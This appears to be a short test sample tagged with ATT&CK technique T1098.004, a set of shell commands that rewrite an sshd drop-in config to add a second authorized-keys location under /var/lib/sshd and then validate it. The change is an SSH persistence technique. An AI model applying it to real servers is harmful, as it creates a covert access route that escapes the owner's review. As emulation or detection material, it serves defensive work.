# technique: T1098.004
# location: linux.ssh.server-config
# source: /etc/ssh/sshd_config.d/40-keys.conf
echo 'AuthorizedKeysFile .ssh/authorized_keys /var/lib/sshd/%u' > /etc/ssh/sshd_config.d/40-keys.conf
mkdir -p /run/sshd
sshd -t
